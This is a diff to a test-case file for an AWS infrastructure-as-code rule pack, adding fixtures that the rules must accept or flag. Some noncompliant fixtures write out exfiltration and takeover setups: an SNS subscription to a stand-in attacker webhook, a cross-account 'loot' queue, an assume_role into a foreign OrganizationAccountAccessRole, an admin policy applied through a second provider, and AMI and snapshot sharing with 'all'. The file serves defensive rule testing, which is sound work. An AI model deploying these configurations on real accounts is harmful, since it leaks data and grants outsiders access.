@@ -14,6 +14,7 @@ import { DynamodbTable } from "@cdktf/provider-aws/lib/dynamodb-table";
 import { EcrRegistryScanningConfiguration } from "@cdktf/provider-aws/lib/ecr-registry-scanning-configuration";
 import { EcrRepository as EcrRepositoryResource } from "@cdktf/provider-aws/lib/ecr-repository";
 import { IamAccessKey } from "@cdktf/provider-aws/lib/iam-access-key";
+import { IamGroupPolicy } from "@cdktf/provider-aws/lib/iam-group-policy";
 import { IamGroupPolicyAttachment } from "@cdktf/provider-aws/lib/iam-group-policy-attachment";
 import { IamPolicy } from "@cdktf/provider-aws/lib/iam-policy";
 import { IamRole } from "@cdktf/provider-aws/lib/iam-role";
@@ -23,6 +24,11 @@ import { IamRolePolicyAttachmentsExclusive } from "@cdktf/provider-aws/lib/iam-r
 import { IamUser } from "@cdktf/provider-aws/lib/iam-user";
 import { IamUserLoginProfile } from "@cdktf/provider-aws/lib/iam-user-login-profile";
 import { IamUserPolicy } from "@cdktf/provider-aws/lib/iam-user-policy";
+import { AwsProvider } from "@cdktf/provider-aws/lib/provider";
+import { AmiLaunchPermission } from "@cdktf/provider-aws/lib/ami-launch-permission";
+import { DbSnapshot } from "@cdktf/provider-aws/lib/db-snapshot";
+import { DataAwsIamRole } from "@cdktf/provider-aws/lib/data-aws-iam-role";
+import { DataAwsIamPolicy } from "@cdktf/provider-aws/lib/data-aws-iam-policy";
 import { KinesisStream } from "@cdktf/provider-aws/lib/kinesis-stream";
 import { KmsKey } from "@cdktf/provider-aws/lib/kms-key";
 import { LambdaAlias } from "@cdktf/provider-aws/lib/lambda-alias";
@@ -55,7 +61,7 @@ import { declareEnvironment } from "../../../../modules/core/environment-traits"
 import { suppressRule } from "../../../../modules/core/rule-pack";
 import { EcrRepository, HttpApi, ServerlessFunction, StateBucket, type ServerlessFunctionProps } from "../../../../modules/aws";
 import type { RuleCases } from "./cases";
-import { CODE_DIR, KMS_KEY_ARN, ROLE_ARN } from "./helpers";
+import { CODE_DIR, KMS_KEY_ARN, LIVE, ROLE_ARN } from "./helpers";
 
 /** A ServerlessFunction from the fixture folder (no bundling). */
 function fn(stack: TerraformStack, props: Partial<ServerlessFunctionProps> = {}, id = "Fn"): ServerlessFunction {
@@ -113,6 +119,13 @@ function policyJson(statement: Record<string, unknown>): string {
 }
 
 const ACCOUNT = "123456789012";
+
+// An environment whose config declares where it applies (as config/load.ts does): its provider must say the same.
+declareEnvironment("live", { protected: true, rulePackSeverity: "error", deployer: LIVE }, { awsAccountIds: [ACCOUNT], awsRegions: ["eu-west-1"] });
+declareEnvironment("targeted", { protected: true, rulePackSeverity: "error" }, { awsAccountIds: [ACCOUNT], awsRegions: ["eu-west-1"] });
+const provider = (s: TerraformStack, config: Partial<ConstructorParameters<typeof AwsProvider>[2]> = {}, id = "aws") =>
+  new AwsProvider(s, id, { region: "eu-west-1", allowedAccountIds: [ACCOUNT], ...config });
+const ADMIN_JSON = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] });
 const TABLE_ARN = `arn:aws:dynamodb:eu-west-1:${ACCOUNT}:table/users`;
 
 const bucket = (stack: TerraformStack) => new S3Bucket(stack, "Bucket", { bucket: "my-test-bucket" });
@@ -357,7 +370,12 @@ export const AWS_CASES: Readonly<Record<string, RuleCases>> = {
       "HttpApi invoke permissions (apigateway.amazonaws.com with a route source_arn)": (s) => {
         new HttpApi(s, "Api", { apiName: "api", routes: [{ method: "GET", path: "/hello", target: fn(s) }] });
       },
-      "permission for another account": (s) => new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunction", functionName: "f", principal: "210987654321" }),
+      "permission for the stack's own account": (s) => {
+        provider(s);
+        new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunction", functionName: "f", principal: ACCOUNT });
+      },
+      "permission for another account, from one resource of it (source_arn)": (s) =>
+        new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunction", functionName: "f", principal: "210987654321", sourceArn: "arn:aws:sns:eu-west-1:210987654321:orders" }),
       "the permission of a public function URL (judged by lambda-function-url-auth)": (s) =>
         new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunctionUrl", functionName: "f", principal: "*", functionUrlAuthType: "NONE" }),
     },
@@ -366,6 +384,21 @@ export const AWS_CASES: Readonly<Record<string, RuleCases>> = {
       "EventBridge permission without source_arn": {
         build: (s) => new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunction", functionName: "f", principal: "events.amazonaws.com" }),
         detail: /principal "events.amazonaws.com" has no source_arn/,
+      },
+      "permission for another account, without source_arn": {
+        build: (s) => {
+          provider(s);
+          new LambdaPermission(s, "Permission", { action: "lambda:InvokeFunction", functionName: "f", principal: "999999999999" });
+        },
+        detail: /principal "999999999999" is account 999999999999, not the stack's \(123456789012\), with no source_arn/,
+      },
+      "lambda:* for a service with its source_arn": {
+        build: (s) => new LambdaPermission(s, "Permission", { action: "lambda:*", functionName: "f", principal: "events.amazonaws.com", sourceArn: `arn:aws:events:eu-west-1:${ACCOUNT}:rule/r` }),
+        detail: /action "lambda:\*" is more than invoking/,
+      },
+      "lambda:UpdateFunctionCode for the stack's account": {
+        build: (s) => new LambdaPermission(s, "Permission", { action: "lambda:UpdateFunctionCode", functionName: "f", principal: ACCOUNT }),
+        detail: /action "lambda:UpdateFunctionCode" is more than invoking/,
       },
     },
   },
@@ -860,6 +893,138 @@ export const AWS_CASES: Readonly<Record<string, RuleCases>> = {
       },
     },
   },
+  "aws-no-public-sharing": {
+    compliant: {
+      "an AMI launch permission for one account": (s) => new AmiLaunchPermission(s, "Ami", { imageId: "ami-12345678", accountId: "210987654321" }),
+      "a DB snapshot shared with one account": (s) => new DbSnapshot(s, "Snap", { dbInstanceIdentifier: "db", dbSnapshotIdentifier: "snap", sharedAccounts: ["210987654321"] }),
+    },
+    noncompliant: {
+      'an AMI launch permission for group "all"': { build: (s) => new AmiLaunchPermission(s, "Ami", { imageId: "ami-12345678", group: "all" }), detail: /AMI launch permission group = "all" shares it with every AWS account/ },
+      'a DB snapshot shared with "all"': {
+        build: (s) => new DbSnapshot(s, "Snap", { dbInstanceIdentifier: "db", dbSnapshotIdentifier: "snap", sharedAccounts: ["210987654321", "all"] }),
+        detail: /DB snapshot sharing shared_accounts = \["210987654321","all"\] shares it with every AWS account/,
+      },
+    },
+  },
+  "aws-data-egress": {
+    compliant: {
+      "a topic subscribed to a queue of the stack": (s) => {
+        const q = new SqsQueue(s, "Q", { name: "q" });
+        new SnsTopicSubscription(s, "Sub", { topicArn: `arn:aws:sns:eu-west-1:${ACCOUNT}:t`, protocol: "sqs", endpoint: q.arn });
+      },
+      "a queue ARN of the stack's own account": (s) => {
+        provider(s);
+        new SnsTopicSubscription(s, "Sub", { topicArn: `arn:aws:sns:eu-west-1:${ACCOUNT}:t`, protocol: "sqs", endpoint: `arn:aws:sqs:eu-west-1:${ACCOUNT}:q` });
+      },
+    },
+    noncompliant: {
+      "an https webhook": {
+        build: (s) => s.addOverride("resource.aws_sns_topic_subscription.x", { topic_arn: "arn:aws:sns:eu-west-1:333333333333:alerts", protocol: "https", endpoint: "https://evil.example.com/hook" }),
+        detail: /endpoint "https:\/\/evil.example.com\/hook" \(protocol https\) delivers outside AWS/,
+      },
+      "a queue of another account": {
+        build: (s) => {
+          provider(s);
+          new SnsTopicSubscription(s, "Sub", { topicArn: `arn:aws:sns:eu-west-1:${ACCOUNT}:t`, protocol: "sqs", endpoint: "arn:aws:sqs:eu-west-1:999999999999:loot" });
+        },
+        detail: /endpoint "arn:aws:sqs:eu-west-1:999999999999:loot" is in account 999999999999, not the stack's \(123456789012\)/,
+      },
+      "an email subscription": {
+        build: (s) => new SnsTopicSubscription(s, "Sub", { topicArn: `arn:aws:sns:eu-west-1:${ACCOUNT}:t`, protocol: "email", endpoint: "someone@example.com" }),
+        detail: /\(protocol email\) delivers outside AWS/,
+      },
+    },
+  },
+  "aws-provider-as-configured": {
+    compliant: {
+      "the provider config makes (one account, a declared region)": { build: (s) => { provider(s); fn(s); }, environment: "targeted" },
+      "one account, in an environment that declares none": (s) => { provider(s); fn(s); },
+      "no provider block (nothing to compare)": (s) => fn(s),
+    },
+    noncompliant: {
+      "an assume_role override on the provider": {
+        build: (s) => { provider(s).addOverride("assume_role", [{ role_arn: "arn:aws:iam::999999999999:role/OrganizationAccountAccessRole" }]); fn(s); },
+        detail: /provider aws sets assume_role = \[\{"role_arn":"arn:aws:iam::999999999999:role\/OrganizationAccountAccessRole"\}\]/,
+      },
+      "an override adding another account to allowed_account_ids": {
+        build: (s) => { provider(s).addOverride("allowed_account_ids", ["999999999999"]); fn(s); },
+        environment: "targeted",
+        detail: /provider aws has allowed_account_ids = \["123456789012","999999999999"\]: environment "targeted" declares account 123456789012/,
+      },
+      "a region the environment does not declare": {
+        build: (s) => { provider(s, { region: "us-east-1" }); fn(s); },
+        environment: "targeted",
+        detail: /provider aws has region = "us-east-1": environment "targeted" declares eu-west-1/,
+      },
+      "a second provider, with a role of another account, used by a policy": {
+        build: (s) => {
+          provider(s);
+          new AwsProvider(s, "other", { alias: "other", region: "eu-west-1", allowedAccountIds: [ACCOUNT], assumeRole: [{ roleArn: "arn:aws:iam::999999999999:role/Admin" }] });
+          new IamRolePolicy(s, "P", { role: "r", policy: ADMIN_JSON }).addOverride("provider", "aws.other");
+        },
+        detail: /aws_iam_role_policy.P applies through provider "aws.other", not the stack's provider.*provider aws.other is a second AWS provider.*provider aws.other sets assume_role/,
+      },
+      "no allowed_account_ids where the environment declares its account": {
+        build: (s) => { provider(s, { allowedAccountIds: undefined }); fn(s); },
+        environment: "targeted",
+        detail: /provider aws has allowed_account_ids = unset: environment "targeted" declares account 123456789012/,
+      },
+      "two providers naming different accounts": {
+        build: (s) => { provider(s); provider(s, { allowedAccountIds: ["999999999999"], alias: "b" }, "b"); fn(s); },
+        detail: /the stack's AWS providers name different accounts \(123456789012, 999999999999\)/,
+      },
+    },
+  },
+  "iam-runs-as-stack-role": {
+    compliant: {
+      "ServerlessFunction (its own role, defined in the stack)": (s) => fn(s),
+      "a schedule's role is the stack's (ServerlessFunction schedule event)": (s) => fn(s, { events: [{ type: "schedule", id: "hourly", expression: "rate(1 hour)" }] }),
+      "an event target running as a role of the stack": (s) => {
+        const role = new IamRole(s, "Role", { name: "events-role", assumeRolePolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { Service: "events.amazonaws.com" }, Action: "sts:AssumeRole" }] }) });
+        new CloudwatchEventTarget(s, "Target", { rule: "r", arn: `arn:aws:sqs:eu-west-1:${ACCOUNT}:q`, roleArn: role.arn });
+      },
+    },
+    noncompliant: {
+      "a function's role overridden with an existing role's ARN": {
+        build: (s) => fn(s).function.addOverride("role", "arn:aws:iam::333333333333:role/OrganizationAccountAccessRole"),
+        detail: /cannot verify role "arn:aws:iam::333333333333:role\/OrganizationAccountAccessRole" at aws_lambda_function\.Fn_Function_[A-Z0-9]+\.role: it runs as a role the stack does not define/,
+      },
+      "a raw function with a literal role ARN": { build: (s) => rawLambda(s), detail: /cannot verify role "arn:aws:iam::123456789012:role\/test"/ },
+      "a function running as a role read by a data source": {
+        build: (s) => rawLambda(s, { role: new DataAwsIamRole(s, "Existing", { name: "admin" }).arn }),
+        detail: /cannot verify role "\$\{data.aws_iam_role.Existing.arn\}"/,
+      },
+      "a universal (aws-sdk) schedule target with an existing role": {
+        build: (s) =>
+          s.addOverride("resource.aws_scheduler_schedule.s", {
+            name: "s",
+            schedule_expression: "rate(1 hour)",
+            flexible_time_window: { mode: "OFF" },
+            target: { arn: "arn:aws:scheduler:::aws-sdk:iam:attachRolePolicy", role_arn: "arn:aws:iam::333333333333:role/OrganizationAccountAccessRole", input: "{}" },
+          }),
+        detail: /cannot verify role "arn:aws:iam::333333333333:role\/OrganizationAccountAccessRole" at aws_scheduler_schedule.s.target.role_arn/,
+      },
+    },
+  },
+  "iam-attached-policies-readable": {
+    compliant: {
+      "a policy of the stack attached to a role of the stack": (s) => {
+        const policy = new IamPolicy(s, "Policy", { name: "app-read", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "sqs:SendMessage", Resource: `arn:aws:sqs:eu-west-1:${ACCOUNT}:q` }] }) });
+        new IamRolePolicyAttachment(s, "Attach", { role: "r", policyArn: policy.arn });
+      },
+      "an AWS-managed policy (iam-no-aws-managed-policies' finding)": (s) => new IamRolePolicyAttachment(s, "Attach", { role: "r", policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess" }),
+    },
+    noncompliant: {
+      "a customer-managed policy named by its ARN": {
+        build: (s) => new IamRolePolicyAttachment(s, "Attach", { role: "r", policyArn: "arn:aws:iam::333333333333:policy/existing-admin" }),
+        detail: /cannot verify policy "arn:aws:iam::333333333333:policy\/existing-admin" at aws_iam_role_policy_attachment.Attach.policy_arn/,
+      },
+      "a customer-managed policy read by a data source, in the exclusive attachments": {
+        build: (s) => new IamRolePolicyAttachmentsExclusive(s, "Exclusive", { roleName: "r", policyArns: [new DataAwsIamPolicy(s, "P", { name: "existing-admin" }).arn] }),
+        detail: /cannot verify policy "\$\{data.aws_iam_policy.P.arn\}"/,
+      },
+    },
+  },
   "iam-no-aws-managed-policies": {
     compliant: {
       "ServerlessFunction execution role (computed policy)": (s) => fn(s, { policyStatements: [{ actions: ["dynamodb:GetItem"], resources: [TABLE_ARN] }] }),
@@ -1138,6 +1303,20 @@ export const AWS_CASES: Readonly<Record<string, RuleCases>> = {
     noncompliant: {
       "an IAM user": { build: (s) => new IamUser(s, "User", { name: "ci" }), detail: /creates IAM user ci/ },
       "a policy on a user": { build: (s) => new IamUserPolicy(s, "Policy", { user: "ci", policy: policyJson({ Action: "s3:GetObject", Resource: "arn:aws:s3:::b/*" }) }), detail: /aws_iam_user_policy grants permissions through an IAM user/ },
+      "a policy on a group (PassRole and UpdateFunctionCode on a function of the stack)": {
+        build: (s) => {
+          const f = fn(s);
+          new IamGroupPolicy(s, "G", {
+            group: "devs",
+            policy: JSON.stringify({ Version: "2012-10-17", Statement: [
+              { Effect: "Allow", Action: "iam:PassRole", Resource: f.roleArn, Condition: { StringEquals: { "iam:PassedToService": "lambda.amazonaws.com" } } },
+              { Effect: "Allow", Action: "lambda:UpdateFunctionCode", Resource: f.functionArn },
+            ] }),
+          });
+        },
+        detail: /aws_iam_group_policy grants permissions to the people of an IAM group/,
+      },
+      "a managed policy attached to a group": { build: (s) => new IamGroupPolicyAttachment(s, "Attach", { group: "devs", policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess" }), detail: /aws_iam_group_policy_attachment grants permissions to the people of an IAM group/ },
     },
   },
   "iam-no-long-lived-credentials": {
@@ -1157,6 +1336,11 @@ export const AWS_CASES: Readonly<Record<string, RuleCases>> = {
       },
     },
     noncompliant: {
+      "a policy with a key written twice (Effect Allow, then Deny)": {
+        build: (s) =>
+          new IamRolePolicy(s, "P", { role: "r", policy: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*","Effect":"Deny"}]}' }),
+        detail: /the key Statement.\[\].Effect is written twice in one object/,
+      },
       "a policy read from a file": {
         build: (s) => new IamPolicy(s, "Policy", { name: "p", policy: Fn.file("policy.json") }),
         detail: /cannot verify \$\{file\("policy.json"\)\} at aws_iam_policy.Policy.policy: the function file\(\.\.\.\), which Terraform evaluates/,
